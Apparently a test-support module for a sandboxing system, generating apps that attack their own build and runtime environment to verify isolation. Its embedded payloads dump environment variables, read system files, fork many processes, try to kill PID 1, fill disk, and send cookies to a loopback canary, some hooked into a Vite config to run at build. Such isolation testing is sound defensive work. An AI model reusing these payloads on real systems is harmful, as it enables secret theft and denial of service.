"""Apps that attack whoever builds, tries and runs them, and tell what they got: in ``loot.json`` at build, at ``/api/loot`` when they run.

Used by the attack journeys. Each attempt is a name and what came of it; what failed begins with an exclamation mark.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import secrets
import socket
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from tests.support.writing_apps import INDEX, ROUTERS


@dataclass(slots=True)
class Canary:
    """Listens where nobody has anything to look for: a port of the loopback and an abstract socket."""

    port: int
    name: str
    heard: list[str] = field(default_factory=list)


@contextlib.asynccontextmanager
async def canary() -> AsyncIterator[Canary]:
    """A canary for the length of the block."""
    name = f"nexus-canary-{secrets.token_hex(6)}"
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(f"\0{name}")
    made = Canary(0, name)

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        made.heard.append("a connection")
        with contextlib.suppress(OSError, TimeoutError):
            made.heard.append(repr(await asyncio.wait_for(reader.read(200), 5)))
        writer.close()

    tcp = await asyncio.start_server(hear, "127.0.0.1", 0)
    unix = await asyncio.start_unix_server(hear, sock=abstract)
    made.port = tcp.sockets[0].getsockname()[1]
    try:
        yield made
    finally:
        for server in (tcp, unix):
            server.close()
            await server.wait_closed()


@dataclass(frozen=True, slots=True, kw_only=True)
class Targets:
    """What is attacked."""

    read: Sequence[str]  #: files and folders of Nexus, of other apps and of the system
    write: Sequence[str]  #: files that would be made or changed
    sockets: Sequence[str]  #: of Nexus's own parts
    port: int  #: of the canary
    abstract: str
    mark: str  #: in the command line of what is left behind

    def as_json(self) -> str:
        return json.dumps({name: getattr(self, name) for name in self.__slots__})


def processes_with(mark: str) -> list[int]:
    """Every living process with this in its command line."""
    found = []
    for name in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            if name.isdecimal() and mark.encode() in Path("/proc", name, "cmdline").read_bytes():
                found.append(int(name))
    return found


_PYTHON = '''\
"""Tries everything."""

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import time

T = json.loads(%r)
LOOT = {}


def attempt(name, call):
    try:
        LOOT[name] = str(call())[:2000]
    except BaseException as error:
        LOOT[name] = f"!{type(error).__name__}"


def look(path):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as file:
        return file.read(200)


def put(path):
    with open(path, "w") as file:
        file.write("owned")


def call(family, address):
    with socket.socket(family) as made:
        made.settimeout(2)
        made.connect(address)
        made.sendall(b"stolen")


def leave():
    code = "import time; time.sleep(600) # " + T["mark"]
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)


def forks():
    made = []
    with contextlib.suppress(OSError):
        while len(made) < 1000:
            pid = os.fork()
            if pid == 0:
                os.setsid()
                time.sleep(600)
                os._exit(0)
            made.append(pid)
    for pid in made:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(made)


def fill():
    with open("/tmp/disk", "wb") as file:
        file.truncate(10**12)


LOOT["env"] = json.dumps(dict(os.environ))
for path in T["read"]:
    attempt("read " + path, lambda: look(path))
for path in T["write"]:
    attempt("write " + path, lambda: put(path))
for path in T["sockets"]:
    attempt("socket " + path, lambda: call(socket.AF_UNIX, path))
attempt("connect", lambda: call(socket.AF_INET, ("127.0.0.1", T["port"])))
attempt("abstract", lambda: call(socket.AF_UNIX, "\\0" + T["abstract"]))
attempt("kill", lambda: os.kill(os.getppid(), 0) if os.getppid() > 1 else os.kill(1, signal.SIGKILL))
attempt("disk", fill)
LOOT["forks"] = str(forks())
attempt("leave", leave)
attempt("tell", lambda: open("static/loot.json", "w").write(json.dumps(LOOT)))
'''

_NODE = """\
// Tries everything.

import { spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';

const T = JSON.parse(%s);

const look = (path) => (fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path, 'latin1').slice(0, 200));

const call = (where) => new Promise((done, failed) => {
  const made = net.connect(where, () => made.end('stolen', () => done('connected')));
  made.setTimeout(2000, () => made.destroy(new Error('timeout')));
  made.on('error', failed);
});

export async function loot() {
  const found = { env: JSON.stringify(process.env) };
  const attempt = async (name, act) => {
    try {
      found[name] = String(await act()).slice(0, 2000);
    } catch (error) {
      found[name] = `!${error.code ?? error.message}`;
    }
  };
  for (const path of T.read) await attempt(`read ${path}`, () => look(path));
  for (const path of T.write) await attempt(`write ${path}`, () => fs.writeFileSync(path, 'owned'));
  for (const path of T.sockets) await attempt(`socket ${path}`, () => call({ path }));
  await attempt('connect', () => call({ host: '127.0.0.1', port: T.port }));
  await attempt('fetch', async () => (await fetch(`http://127.0.0.1:${T.port}/`)).status);
  await attempt('abstract', () => call({ path: `\\0${T.abstract}` }));
  await attempt('disk', () => fs.truncateSync(fs.openSync('/tmp/disk', 'w'), 10 ** 12));
  const left = ['-e', `setTimeout(() => {}, 600000) // ${T.mark}`];
  await attempt('leave', () => { spawn(process.execPath, left, { detached: true, stdio: 'ignore' }).unref(); });
  return found;
}
"""

_PAGE = """\
<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Notes</title><link rel="icon" href="favicon.svg"></head>
<body><main><h1>Notes</h1><p>There are none.</p></main>
<script>
const there = `http://${[127, 0, 0, 1].join('.')}:%d/`;
const quietly = (act) => { try { Promise.resolve(act()).catch(() => {}); } catch { } };
quietly(() => fetch(there, { mode: 'no-cors', method: 'POST', body: document.cookie }));
quietly(() => navigator.sendBeacon(there, 'stolen'));
quietly(() => { new WebSocket(there.replace('http', 'ws')); });
quietly(() => { new Image().src = there; });
quietly(() => window.open(there));
quietly(() => { const frame = document.createElement('iframe'); frame.src = there; document.body.append(frame); });
const servers = [{ urls: there.replace('http://', 'stun:').slice(0, -1) }];
quietly(() => { new RTCPeerConnection({ iceServers: servers }).createDataChannel('x'); });
</script>
</body>
</html>
"""


def fastapi(targets: Targets) -> dict[str, str]:
    """Attacks when it is imported: at build and at start."""
    routers = ROUTERS.replace("from app.crud", "from fastapi import APIRouter\n\nfrom app import probe\nfrom app.crud")
    own = '\n\nown = APIRouter()\n\n\n@own.get("/loot")\ndef loot() -> dict[str, str]:\n    return probe.LOOT\n\n\nROUTERS.append(own)\n'
    return {
        "app/probe.py": _PYTHON % targets.as_json(),
        "app/resources/__init__.py": routers.rstrip("\n") + own,
    }


def page(port: int) -> str:
    """Sends what it can get to this port of the loopback, from a browser."""
    return _PAGE % port


def react(targets: Targets) -> dict[str, str]:
    """Attacks from the configuration of Vite, of PostCSS and of its server."""
    probe = _NODE % json.dumps(targets.as_json())
    config = (
        "// @ts-nocheck\nimport fs from 'node:fs';\n\nimport tailwindcss from '@tailwindcss/vite';\n"
        "import react from '@vitejs/plugin-react';\nimport { defineConfig } from 'vite';\n\n"
        "import { loot } from './server/probe.js';\n\nexport default defineConfig(async () => {\n"
        "  fs.writeFileSync('public/loot.json', JSON.stringify(await loot()));\n"
        "  return { plugins: [react(), tailwindcss()], build: { cssTarget: 'esnext' } };\n});\n"
    )
    server = INDEX.replace("import { crud }", "import express from 'express';\n\nimport { crud }")
    own = (
        "\nimport { loot } from '../probe.js';\n\nconst found = await loot();\nresources.push({\n  table: 'loot',\n"
        "  router: () => express.Router().get('/', (request, response) => response.json(found)),\n});\n"
    )
    return {"server/probe.js": probe, "vite.config.ts": config, "server/resources/index.js": server + own}
